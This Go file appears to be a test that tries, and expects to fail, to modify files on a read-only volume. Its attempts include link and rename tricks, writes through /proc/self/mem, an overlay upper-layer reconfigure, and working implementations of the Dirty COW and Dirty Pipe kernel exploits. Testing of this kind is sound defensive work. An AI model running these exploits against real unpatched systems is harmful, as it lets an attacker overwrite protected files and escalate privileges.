package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"unsafe"

	"golang.org/x/sys/unix"
)

// vainAttempts change no volume at all, not a writable one either, unless the kernel has
// a hole that was closed long ago.
func vainAttempts() []attempt {
	return append(attemptsOn([]onFile{
		{"link to elsewhere", func(t target) error { return elsewhere(t, unix.Link) }},
		{"rename to elsewhere", func(t target) error { return elsewhere(t, unix.Rename) }},
		{"write to a shared page in /proc/self/mem", forced},
		{"Dirty COW (CVE-2016-5195)", dirtyCOW},
		{"Dirty Pipe (CVE-2022-0847)", dirtyPipe},
	}), attempt{"fsconfig RECONFIGURE with an upper layer", uppered})
}

// errMended is that the kernel took it all, and nothing came of it.
var errMended = errors.New("the file is as it was")

// elsewhere moves the file into another mount.
func elsewhere(t target, move func(from, to string) error) error {
	to := filepath.Join(t.scratch, "file")
	defer os.Remove(to)
	return move(t.file(), to)
}

// mapRead maps the file's first page, shared or private. The page is not unmapped: that
// keeps it in memory for whoever looks at the file next.
func mapRead(t target, flags int) (fd int, page []byte, err error) {
	if fd, err = readable(t); err != nil {
		return -1, nil, err
	}
	page, err = unix.Mmap(fd, 0, os.Getpagesize(), unix.PROT_READ, flags)
	if err != nil {
		unix.Close(fd)
		return -1, nil, fmt.Errorf("mmap PROT_READ: %w", err)
	}
	return fd, page, nil
}

// force writes to a page that this process may only read, as a debugger does.
func force(page []byte, b byte) error {
	mem, err := unix.Open("/proc/self/mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(mem)
	_, err = unix.Pwrite(mem, []byte{b}, int64(uintptr(unsafe.Pointer(&page[0]))))
	return err
}

// same returns errMended if the file's byte at offset is still as it was.
func same(fd int, offset int64, was byte) error {
	now := make([]byte, 1)
	if _, err := unix.Pread(fd, now, offset); err != nil {
		return err
	}
	if now[0] == was {
		return errMended
	}
	return nil
}

func forced(t target) error {
	fd, page, err := mapRead(t, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return force(page, ^t.first)
}

// dirtyCOW writes to a private page while the kernel is asked to drop the copy.
func dirtyCOW(t target) error {
	fd, page, err := mapRead(t, unix.MAP_PRIVATE)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	stop, done := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
				_ = unix.Madvise(page, unix.MADV_DONTNEED)
			}
		}
	}()
	for range 2000 {
		if err = force(page, ^t.first); err != nil {
			break
		}
	}
	close(stop)
	<-done
	return errors.Join(err, same(fd, 0, t.first))
}

// dirtyPipe splices a page into a pipe whose buffers were written to before, and writes
// to the pipe: that byte was once appended to the page.
func dirtyPipe(t target) error {
	fd, _, err := mapRead(t, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	second := make([]byte, 1)
	if n, err := unix.Pread(fd, second, 1); n != 1 {
		return errors.Join(errors.New("the file has no second byte"), err)
	}
	var pipe [2]int
	if err := unix.Pipe2(pipe[:], unix.O_CLOEXEC|unix.O_NONBLOCK); err != nil {
		return err
	}
	defer unix.Close(pipe[0])
	defer unix.Close(pipe[1])
	page := make([]byte, os.Getpagesize())
	for err == nil { // until it is full
		_, err = unix.Write(pipe[1], page)
	}
	for err = nil; err == nil; { // until it is empty
		_, err = unix.Read(pipe[0], page)
	}
	if _, err := unix.Splice(fd, new(int64), pipe[1], nil, 1, 0); err != nil {
		return fmt.Errorf("splice: %w", err)
	}
	if _, err := unix.Write(pipe[1], []byte{^second[0]}); err != nil {
		return err
	}
	return same(fd, 1, second[0])
}

// uppered gives the overlay a layer to write to.
func uppered(t target) (string, error) {
	fd, err := unix.Fspick(unix.AT_FDCWD, t.dir, unix.FSPICK_CLOEXEC)
	if err != nil {
		return "", fmt.Errorf("fspick: %w", err)
	}
	defer unix.Close(fd)
	upper, work := filepath.Join(t.scratch, "upper"), filepath.Join(t.scratch, "work")
	for _, dir := range []string{upper, work} {
		if err := os.Mkdir(dir, 0o755); err != nil {
			return "", err
		}
		defer os.RemoveAll(dir) // nothing is mounted in it
	}
	for key, value := range map[string]string{"upperdir": upper, "workdir": work} {
		if err := unix.FsconfigSetString(fd, key, value); err != nil {
			return "", fmt.Errorf("%s: %w", key, err)
		}
	}
	return t.dir, unix.FsconfigReconfigure(fd)
}
